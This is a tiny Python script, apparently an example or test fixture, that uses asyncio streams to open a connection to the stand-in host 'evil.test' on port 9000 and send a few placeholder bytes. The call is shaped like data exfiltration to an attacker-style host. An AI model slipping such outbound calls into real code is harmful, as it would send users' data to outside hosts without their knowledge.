"""asyncio's streams, to a name."""
import asyncio


async def main():
    _, writer = await asyncio.open_connection("evil.test", 9000)
    writer.write(b"data")
    await writer.drain()
    writer.close()


asyncio.run(main())
